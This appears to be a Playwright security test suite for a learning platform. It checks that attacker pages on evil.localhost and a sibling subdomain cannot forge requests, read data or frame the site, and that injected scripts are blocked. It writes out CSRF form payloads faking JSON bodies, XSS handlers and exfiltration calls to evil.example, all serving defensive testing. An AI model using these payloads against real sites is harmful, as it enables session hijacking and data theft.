import type { Page } from '@playwright/test'
import { quick } from './exam-paper'
import { expect, password, test } from './fixtures'

// What shows every second time is no less wrong: a second try, as `npm run verify` has it, would hide it.
test.describe.configure({ retries: 0 })

// What a page of somebody else can do to a learner who is logged in, in a real browser: a stranger's site, a sibling below the tenant's own
// domain, and a frame without an origin.

const tenant = 'bgy.localhost'
const attackers = { 'a stranger': 'evil.localhost', 'a sibling of the same site': `evil.${tenant}` }

/** Opens a page of the attacker's, whatever stands on that host. */
async function standAt(page: Page, address: string, body = '<!doctype html><title>attack</title>'): Promise<void> {
  // Or the browser would keep what is sent to this machine to itself, which it does not do for hosts of the world.
  await page.context().grantPermissions(['local-network-access'])
  await page.route(`${new URL(address).origin}/**`, (route) => route.fulfill({ contentType: 'text/html', body }))
  await page.goto(address)
}

/** What our doors have answered so far: method, path, status and cookies; also where the browser keeps an answer from who asked. */
type Answer = [string, string, number, string | null]
async function answersTo(page: Page, target: string): Promise<() => Answer[]> {
  const asked = new Map<string, { method: string; url: string }>()
  const answered = new Map<string, { statusCode: number; headers: Record<string, string> }>()
  const network = await page.context().newCDPSession(page)
  network.on('Network.requestWillBeSent', ({ requestId, request }) => asked.set(requestId, request))
  network.on('Network.responseReceivedExtraInfo', (answer) => answered.set(answer.requestId, answer))
  await network.send('Network.enable')
  return () => [...answered].flatMap(([id, { statusCode, headers }]) => {
    const { method = '', url = '' } = asked.get(id) ?? {}
    return url.startsWith(`${target}/`) ? [[method, new URL(url).pathname, statusCode, headers['set-cookie'] ?? headers['Set-Cookie'] ?? null]] : []
  })
}

/** A door that asks for no session before it looks where a request comes from, and what it wants to be told. */
const login = '/api/public/session'
const doors = ['/api/session/end', '/api/account/contact', '/api/reviews/item', '/api/messages/read-all', login]
const rightLogin = { account: 'liming', password, consent: true }

test.describe('a page of another site', () => {
  // Refused requests and frames are what is wanted here.
  test.use({ quiet: [/./] })

  for (const [who, host] of Object.entries(attackers)) {
    test(`of ${who} changes nothing by forms, fetch, pictures or frames`, async ({ page, context, loginAs, origin }) => {
      await loginAs('liming', tenant)
      const target = origin(tenant)
      const phone = async () => (await (await context.request.get(`${target}/MyName`)).text()).includes('13755550000')
      await standAt(page, `http://${host}:${new URL(target).port}/`)
      const answers = await answersTo(page, target)
      const forms: [string, number][] = []
      context.on('response', (response) => {
        if (response.request().method() === 'POST' && response.url().startsWith(`${target}/`)) forms.push([new URL(response.url()).pathname, response.status()])
      })
      await page.evaluate(async ([at, known]) => {
        const inFrame = (name: string) => Object.assign(document.body.appendChild(document.createElement('iframe')), { name })
        const tries: Promise<unknown>[] = []
        for (const [path, fields] of [['/api/session/end', {}], ['/api/account/contact', { phone: '13755550000' }], ['/api/reviews/item', { kind: 'course', ownerId: '101001', stars: 1, text: 'x' }], ['/api/messages/read-all', {}], ['/api/public/session', known]] as const) {
          for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
            const form = document.body.appendChild(document.createElement('form'))
            const frame = `frame${document.forms.length}`
            inFrame(frame)
            // As near to JSON as a form comes.
            Object.assign(form, { method: 'post', action: at + path, enctype, target: frame })
            form.append(Object.assign(document.createElement('input'), { name: `${JSON.stringify({ ...fields, phone: '13755550000' }).slice(0, -1)},"x":"`, value: '"}' }))
            form.submit()
          }
          const body = JSON.stringify(fields)
          for (const init of [{ mode: 'no-cors', headers: { 'content-type': 'text/plain' } }, { mode: 'cors', headers: { 'content-type': 'application/json' } }, { mode: 'no-cors', referrerPolicy: 'no-referrer' }] as RequestInit[]) tries.push(fetch(at + path, { method: 'POST', credentials: 'include', body, ...init }).catch(() => null))
          tries.push(Promise.resolve(navigator.sendBeacon(at + path, new Blob([body], { type: 'text/plain' }))))
          tries.push(new Promise((done) => Object.assign(new Image(), { onload: done, onerror: done, src: at + path })))
        }
        await Promise.all(tries)
      }, [target, rightLogin] as const)
      // Of each door some forms, which load into frames, and some of what is fetched or sent beside the page.
      const leastOf = (all: string[]) => Math.min(...doors.map((door) => all.filter((path) => path === door).length))
      await expect.poll(() => leastOf(forms.map(([path]) => path))).toBe(3)
      await expect.poll(() => leastOf(answers().flatMap(([method, path]) => (method === 'POST' ? [path] : [])))).toBeGreaterThan(2)
      // Only the cookie of a session goes with what a sibling sends, and so gets as far as the gate of a learner's door.
      const refused = (path: string) => (path === login || host.endsWith(tenant) ? 403 : 401)
      expect(answers().filter(([method, path, status, cookie]) => cookie !== null || status < 400 || (method === 'POST' && status !== refused(path)))).toEqual([])
      expect(forms.filter(([path, status]) => status !== refused(path))).toEqual([])
      // The session lives, and nothing was changed.
      expect(await phone()).toBe(false)
      const unread = await context.request.get(`${target}/api/messages/unread`)
      expect(unread.status()).toBe(200)
    })

    test(`of ${who} reads nothing and frames nothing`, async ({ page, loginAs, origin }) => {
      await loginAs('liming', tenant)
      const target = origin(tenant)
      const at = `http://${host}:${new URL(target).port}/`
      await standAt(page, at, `<!doctype html>${['/Home', '/login', '/api/session/end', '/api/public/files/admin/file/logo/82.svg'].map((path) => `<iframe src="${target}${path}"></iframe>`).join('')}`)
      await expect.poll(() => page.frames().filter((frame) => frame.parentFrame() && frame.url().startsWith(target)).length).toBe(0)
      const read = await page.evaluate(async (from) => {
        const words: string[] = []
        for (const path of ['/Home', '/api/messages/unread', '/api/public/session/who']) {
          for (const mode of ['cors', 'no-cors'] as const) words.push(await fetch(from + path, { credentials: 'include', mode }).then((reply) => reply.text(), () => ''))
        }
        const image = await new Promise((done) => Object.assign(new Image(), { onload: () => done('shown'), onerror: () => done('blocked'), src: `${from}/api/public/files/admin/file/logo/82.svg` }))
        const script = await new Promise((done) => document.head.append(Object.assign(document.createElement('script'), { onload: () => done('ran'), onerror: () => done('blocked'), src: `${from}/api/public/session/who` })))
        return { words: words.join(''), image, script }
      }, target)
      expect(read.words).toBe('')
      expect(read.script).toBe('blocked')
      // A sibling is of the same site; CORP is about origins.
      expect(read.image).toBe('blocked')
    })
  }

  test('in a frame without an origin is nobody', async ({ page, context, loginAs, origin }) => {
    await loginAs('liming', tenant)
    const target = origin(tenant)
    await standAt(page, `http://${attackers['a sibling of the same site']}:${new URL(target).port}/`, `<!doctype html><iframe sandbox="allow-scripts allow-forms" allow="local-network-access *" srcdoc="<form method=post action='${target}${login}' enctype='text/plain'><input name='{&quot;account&quot;:&quot;liming&quot;,&quot;password&quot;:&quot;${password}&quot;,&quot;consent&quot;:true,&quot;x&quot;:&quot;' value='&quot;}'></form>"></iframe>`)
    const frame = page.frames().find((one) => one.parentFrame())!
    const answers = await answersTo(page, target)
    await frame.evaluate(async ([ours, known]) => {
      for (const [path, body] of [['/api/session/end', '{}'], ['/api/public/session', known]] as const) await fetch(ours + path, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => null)
      document.forms[0]!.submit()
    }, [target, JSON.stringify(rightLogin)] as const)
    await expect.poll(() => frame.url()).not.toBe('about:srcdoc')
    await expect.poll(() => answers().toSorted()).toEqual([['POST', login, 403, null], ['POST', login, 403, null], ['POST', '/api/session/end', 401, null]])
    expect((await context.request.get(`${target}/api/messages/unread`)).status()).toBe(200)
  })

  test('begins no exam by a link, nor by one to an address of the old client', async ({ page, loginAs, ownAccount, origin }) => {
    await loginAs(ownAccount)
    const begun: string[] = []
    page.on('request', (request) => request.url().endsWith('/api/attempts/start') && begun.push(request.method()))
    for (const path of [quick, `/en${quick}`, `/Home#${quick}`]) {
      await standAt(page, `http://${attackers['a stranger']}:${new URL(origin()).port}/`)
      await page.evaluate((address) => {
        location.href = address
      }, origin() + path)
      await expect(page).toHaveURL(`${origin()}/TestDetil?id=8003`)
      await expect(page.getByRole('button', { name: '开始考试' })).toBeVisible()
    }
    expect(begun).toEqual([])
    // What is pressed there begins it.
    await page.getByRole('button', { name: '开始考试' }).click()
    await expect.poll(() => begun).toEqual(['POST'])
  })

  test('opened beside ours has no hand on our window', async ({ page, context, loginAs, origin }) => {
    await loginAs('liming', tenant)
    await standAt(page, `http://${attackers['a stranger']}:${new URL(origin(tenant)).port}/`)
    const opened = context.waitForEvent('page')
    await page.evaluate((address) => Object.assign(window, { victim: window.open(address) }), `${origin(tenant)}/Home`)
    const victim = await opened
    await victim.waitForLoadState()
    expect(await victim.evaluate(() => window.opener === null)).toBe(true)
    expect(await page.evaluate(() => (window as unknown as { victim: Window }).victim.closed)).toBe(true)
  })
})

test.describe('a script that found its way into a page', () => {
  test.use({ quiet: [/Content.Security.Policy|Refused to|violates|404 \(Not Found\)/i] })
  test('does not run where the policy has a nonce, and sends nothing out', async ({ page, loginAs, origin }) => {
    await loginAs('liming')
    await page.goto(`${origin()}/Home`)
    const ran = await page.evaluate(async () => {
      const kinds = ['<img src="/art/none.png" onerror="window.ran = 1">', '<svg onload="window.ran = 2"></svg>', '<iframe srcdoc="<script>parent.ran = 3</script>"></iframe>', '<a id="js" href="javascript:window.ran=4">x</a>', '<form id="out" action="https://evil.example"><input></form>']
      const violated = new Promise((done) => document.addEventListener('securitypolicyviolation', done, { once: true }))
      for (const html of kinds) document.body.insertAdjacentHTML('beforeend', html)
      document.getElementById('js')!.click()
      await violated
      const sent = await fetch('https://evil.example/?leak', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')
      const picture = await new Promise((done) => Object.assign(new Image(), { onload: () => done('sent'), onerror: () => done('refused'), src: 'https://evil.example/p.gif' }))
      const broken = new Promise<string>((done) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => effectiveDirective === 'form-action' && done(effectiveDirective))
        setTimeout(done, 10_000, 'nothing was refused')
      })
      const form = document.querySelector<HTMLFormElement>('#out')!
      form.submit()
      return { form: await broken, ran: (window as unknown as { ran?: number }).ran ?? null, sent, picture }
    })
    expect(ran).toEqual({ form: 'form-action', ran: null, sent: 'refused', picture: 'refused' })
  })
})

test.describe('a hostile text of the platform', () => {
  // With the policy out of the way, the cleaning alone is left.
  test.use({ bypassCSP: true, quiet: [/404 \(Not Found\)/] })
  test('does nothing in a browser that no policy holds back', async ({ page, origin }) => {
    const isRun = () => page.evaluate(() => (window as unknown as { __notice?: number }).__notice ?? null)
    await page.goto(`${origin()}/news/107`)
    const article = page.getByRole('article')
    await expect(article).toContainText('本月最后一个工作日')
    for (const words of ['点击查看核对清单', '备用链接', '下载模板', '本月最后一个工作日']) await article.getByText(words).first().click()
    expect(await isRun()).toBeNull()
    await expect(article.locator('script, iframe, object, embed, form, style, link, base, meta, [onclick], [onerror], [onload]')).toHaveCount(0)
    expect(page.frames()).toHaveLength(1)
    expect(page.url()).toBe(`${origin()}/news/107`)
    await expect(page).not.toHaveTitle(/hacked/)
    // What is not cleaned does act here.
    await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src="/art/none.png" onerror="window.__notice = 99">'))
    await expect.poll(isRun).toBe(99)
  })
})
